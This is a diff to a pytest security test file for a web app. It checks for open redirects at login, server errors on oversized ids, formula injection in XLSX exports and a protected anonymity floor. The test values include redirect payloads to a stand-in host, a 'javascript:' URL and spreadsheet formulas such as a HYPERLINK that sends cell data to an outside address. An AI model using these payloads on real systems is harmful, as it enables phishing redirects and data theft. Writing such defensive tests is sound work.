@@ -18,13 +18,13 @@ def signed_in(client, auth, make_user):
     return client
 
 
-@pytest.mark.parametrize("target", ["/%09/evil.example", "//evil.example", "/\\evil.example",
-                                    "https://evil.example/", "javascript:alert(1)"])
+@pytest.mark.parametrize(
+    "target", ["/%09/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "javascript:alert(1)"]
+)
 def test_login_never_redirects_off_site(client, make_user, target):
     """Does sign-in refuse to redirect to another site through `next`?"""
     make_user("office")
-    response = client.post(f"/office/login?next={target}",
-                           data={"username": "office", "password": "correct-horse-1"})
+    response = client.post(f"/office/login?next={target}", data={"username": "office", "password": "correct-horse-1"})
     assert response.status_code == 302
     assert response.headers["Location"] == "/office/home"
 
@@ -32,8 +32,15 @@ def test_login_never_redirects_off_site(client, make_user, target):
 def test_huge_or_odd_numbers_are_not_server_errors(app, signed_in):
     """Do ids and page numbers beyond 32 bits, or nonsense years, give 404 or the default page, never 500?"""
     with app.app_context():
-        db.session.add(Period(name="2026", starts_on=date(2026, 1, 1), ends_on=date(2026, 12, 31),
-                              as_of=date(2026, 12, 31), state=PeriodState.OPEN))
+        db.session.add(
+            Period(
+                name="2026",
+                starts_on=date(2026, 1, 1),
+                ends_on=date(2026, 12, 31),
+                as_of=date(2026, 12, 31),
+                state=PeriodState.OPEN,
+            )
+        )
         db.session.commit()
     big = "99999999999999999999"
     assert signed_in.get(f"/office/cases/{big}").status_code == 404
@@ -55,14 +62,21 @@ def test_huge_or_odd_numbers_are_not_server_errors(app, signed_in):
 def test_xlsx_never_holds_a_formula(app, runner, tmp_path):
     """Is a unit named like a formula written as text in every sheet of the workbook?"""
     with app.app_context():
-        period = Period(name="2026", starts_on=date(2026, 1, 1), ends_on=date(2026, 12, 31),
-                        as_of=date(2026, 12, 31), state=PeriodState.OPEN)
-        unit = Unit(code="U1", name='=HYPERLINK("http://e/"&A1,"x")', kind=UnitKind.GOVERNMENT,
-                    category="=1+1")
+        period = Period(
+            name="2026",
+            starts_on=date(2026, 1, 1),
+            ends_on=date(2026, 12, 31),
+            as_of=date(2026, 12, 31),
+            state=PeriodState.OPEN,
+        )
+        unit = Unit(code="U1", name='=HYPERLINK("http://e/"&A1,"x")', kind=UnitKind.GOVERNMENT, category="=1+1")
         db.session.add_all([period, unit])
         db.session.flush()
-        db.session.add(CheckPoint(period_id=period.id, unit_id=unit.id, item="+cmd", due=date(2026, 6, 1),
-                                  status=CheckPointStatus.ON_TIME))
+        db.session.add(
+            CheckPoint(
+                period_id=period.id, unit_id=unit.id, item="+cmd", due=date(2026, 6, 1), status=CheckPointStatus.ON_TIME
+            )
+        )
         db.session.commit()
     assert runner.invoke(args=["score", "--period", "2026"]).exit_code == 0
     out = tmp_path / "r.xlsx"
@@ -75,8 +89,15 @@ def test_xlsx_never_holds_a_formula(app, runner, tmp_path):
 def test_scheme_cannot_lower_the_anonymity_floor(app, signed_in):
     """Is a scheme that lowers a group's minimum sample below scoring.md refused?"""
     with app.app_context():
-        db.session.add(Period(name="2026", starts_on=date(2026, 1, 1), ends_on=date(2026, 12, 31),
-                              as_of=date(2026, 12, 31), state=PeriodState.OPEN))
+        db.session.add(
+            Period(
+                name="2026",
+                starts_on=date(2026, 1, 1),
+                ends_on=date(2026, 12, 31),
+                as_of=date(2026, 12, 31),
+                state=PeriodState.OPEN,
+            )
+        )
         db.session.commit()
     page = signed_in.get("/office/periods/2026/scheme").get_data(as_text=True)
     assert "默认方案（尚未保存）" in page
